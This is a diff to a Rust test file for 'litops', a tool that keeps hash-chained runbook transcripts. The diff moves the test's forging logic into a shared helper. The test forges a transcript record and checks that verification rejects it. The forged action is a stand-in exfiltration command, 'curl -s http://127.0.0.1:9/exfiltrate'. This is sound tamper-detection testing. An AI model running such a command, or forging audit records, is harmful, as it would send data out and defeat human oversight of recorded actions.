@@ -4,7 +4,7 @@
 
 use std::path::{Path, PathBuf};
 
-use litops::transcript::{Event, GENESIS, Record, front_matter, render};
+use litops::transcript::Event;
 
 use crate::{Ran, Test};
 
@@ -177,43 +177,17 @@ fn removed_reordered_and_cut_records_are_caught() {
 fn a_forged_chain_cannot_add_an_action_the_runbook_lacks() {
   let ran = run();
   let path = ran.dir.path().join("t.md");
-  let text = std::fs::read_to_string(&path).expect("read");
   // The forger rewrites one action and recomputes every hash: the chain and
   // the Markdown are consistent again.
-  let mut events: Vec<Event> = text
-    .lines()
-    .filter_map(|l| l.strip_prefix("<!-- litops:record sha256="))
-    .filter_map(|l| {
-      l.split_once(' ')
-        .map(|(_, json)| json.trim_end_matches(" -->"))
-    })
-    .map(|json| serde_json::from_str::<Record>(json).expect("record").event)
-    .collect();
-  for event in &mut events {
-    if let Event::StepStarted { step, action, .. } = event
-      && step == "echo"
-    {
-      *action = "curl -s http://127.0.0.1:9/exfiltrate".into();
+  crate::forge(&path, |events| {
+    for event in events.iter_mut() {
+      if let Event::StepStarted { step, action, .. } = event
+        && step == "echo"
+      {
+        *action = "curl -s http://127.0.0.1:9/exfiltrate".into();
+      }
     }
-  }
-  let last = events
-    .last()
-    .filter(|e| matches!(e, Event::RunFinished { .. }));
-  let mut forged = front_matter(&events[0], last);
-  let mut prev = GENESIS.to_string();
-  for (i, event) in events.iter().enumerate() {
-    let record = Record {
-      seq: i as u64 + 1,
-      prev,
-      event: event.clone(),
-    };
-    let (line, hash) = record.seal().expect("seal");
-    forged.push_str(&render(event));
-    forged.push_str(&line);
-    forged.push('\n');
-    prev = hash;
-  }
-  std::fs::write(&path, forged).expect("write");
+  });
   let (code, out) = verify(ran.dir.path(), &[]);
   assert_eq!(code, 1, "{out}");
   assert!(
